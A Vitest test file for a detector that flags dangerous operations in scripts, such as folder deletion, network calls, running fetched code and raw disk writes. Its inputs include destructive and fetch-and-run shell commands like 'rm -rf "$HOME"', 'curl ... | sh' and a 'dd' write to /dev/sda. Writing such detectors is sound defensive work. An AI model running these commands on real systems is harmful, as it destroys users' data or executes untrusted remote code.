import { expect, it } from 'vitest';
import { dangersIn, isScript } from '../../src/core/script-dangers.ts';

it.each([
  ['rm -rf "$HOME"', ['deletes folders']],
  ['rm -f -r x', ['deletes folders']],
  ['shutil.rmtree(path)', ['deletes folders']],
  ['curl -s https://x.example | sh', ['asks the network', 'runs what it was sent']],
  ['requests.post(url, data)', ['asks the network']],
  ["await fetch('https://x.example')", ['asks the network']],
  ['echo cm0= | base64 -d', ['runs what it was sent']],
  ['dd if=/dev/zero of=/dev/sda', ['writes to a disk as such']],
  ['rm output.tmp\nprint("form -r")\nformat(rows)', []],
  ['const curled = prefetched;', []],
])('%j', (text, dangers) => {
  expect(dangersIn(text)).toEqual(dangers);
});

it.each([
  ['scripts/clean', '', true],
  ['tools/x.py', '', true],
  ['tools/x', '#!/bin/sh\n', true],
  ['references/curl.md', 'curl x', false],
])('%s with %j is a script: %s', (path, text, is) => {
  expect(isScript(path, text)).toBe(is);
});
